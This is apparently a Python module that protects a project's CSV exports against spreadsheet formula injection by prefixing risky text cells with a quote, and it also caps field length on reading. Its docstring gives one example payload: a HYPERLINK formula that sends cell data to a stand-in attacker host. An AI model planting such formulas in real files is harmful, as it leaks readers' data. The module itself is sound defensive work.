"""CSV that a spreadsheet opens as data, never as formulas (OWASP "CSV Injection").

A spreadsheet that opens a CSV evaluates a cell beginning with `=`, `+`, `-` or `@` (and, in
some, one beginning with a tab or a carriage return) as a formula: a station named
`=HYPERLINK("https://evil.example/?"&A1, "Bishkek")` in the open data would run in every
reader's spreadsheet. OWASP's advice, followed here: such a cell is prefixed with a single
quote, which spreadsheets show as text. Every CSV Kubat writes goes through `writer`.

Only text is neutralised, never numbers: a longitude of -74.56 written as the float it is stays
a number in the spreadsheet, which is what a reader of open data needs, and a number cannot be
a formula. A numeric value must therefore reach the writer as int, float or Decimal, not as
text; a text cell that merely looks like a negative number ("-5" as a name) is neutralised.

So that `kubat import` reads back what `kubat export` wrote, a text cell beginning with a quote
is quoted too, and `restore_cell` removes exactly one leading quote: the round trip is exact.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any, Protocol

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NEUTRALISED_FIRST = frozenset((*FORMULA_TRIGGERS, QUOTE))


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


def neutralise_cell(value: object) -> object:
    """`value` as it may go into a CSV cell: text starting with a formula trigger (or with the
    quote itself) gets a leading single quote; everything else, numbers included, unchanged."""
    # The first character against a set: this runs for every cell of a million-row export.
    if isinstance(value, str) and value[:1] in _NEUTRALISED_FIRST:
        return QUOTE + value
    return value


def restore_cell(text: str) -> str:
    """The text `neutralise_cell` was given: one leading quote removed, if there is one."""
    return text[1:] if text.startswith(QUOTE) else text


class SafeWriter:
    """csv.writer whose every row is neutralised cell by cell."""

    def __init__(self, target: Any, **options: Any) -> None:
        self._writer: _Writer = csv.writer(target, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise_cell(v) for v in row])

    def writerow_neutralised(self, row: Iterable[object]) -> Any:
        """A row whose every cell has been through `neutralise_cell` exactly once already (a
        cell repeated on many rows, like an export's location columns, neutralised once)."""
        return self._writer.writerow(row)

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(target: Any, **options: Any) -> SafeWriter:
    """A CSV writer for `target` (anything with .write) that neutralises formulas."""
    return SafeWriter(target, **options)


# The csv module's default field limit, applied by our readers whatever another library in the
# process set with csv.field_size_limit (frictionless raises it to sys.maxsize on import).
MAX_FIELD_CHARS = 131_072


if TYPE_CHECKING:
    _DictReaderBase = csv.DictReader[str]
else:  # csv.DictReader is not subscriptable at run time before Python 3.12
    _DictReaderBase = csv.DictReader


class DictReader(_DictReaderBase):
    """csv.DictReader that raises csv.Error on a field longer than MAX_FIELD_CHARS, so that an
    upload's bound does not depend on the process's global csv settings."""

    def __next__(self) -> dict[str | Any, str | Any]:
        row = super().__next__()
        for value in row.values():
            if isinstance(value, str) and len(value) > MAX_FIELD_CHARS:
                raise csv.Error(f"field larger than field limit ({MAX_FIELD_CHARS})")
        return row
